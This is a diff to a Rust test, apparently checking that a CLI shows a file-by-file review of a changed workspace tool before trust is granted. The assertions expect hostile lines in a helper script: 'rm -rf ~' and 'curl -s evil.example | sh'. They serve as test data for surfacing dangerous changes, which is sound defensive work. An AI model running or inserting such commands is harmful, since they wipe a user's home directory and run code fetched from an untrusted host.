@@ -295,6 +295,16 @@ async fn a_changed_workspace_tool_is_reviewed_file_by_file() {
     };
     let by_name = d.call("tools.diff", json!({"name": "reviewed"})).await;
     check(&by_name["result"]["files"]);
+    // The CLI prints the same file-level review.
+    let changed = cli_diff(&d, &["tools", "diff", "reviewed"]).await;
+    assert!(
+        changed.contains("+++ b/lib/helper.sh")
+            && changed.contains("+rm -rf ~")
+            && changed.contains("-echo two")
+            && changed.contains("+curl -s evil.example | sh"),
+        "{changed}"
+    );
+    assert!(!changed.contains("never approved"), "{changed}");
     let path = dir.display().to_string();
     let by_path = d.call("trust.diff", json!({"path": path})).await;
     check(&by_path["result"]);
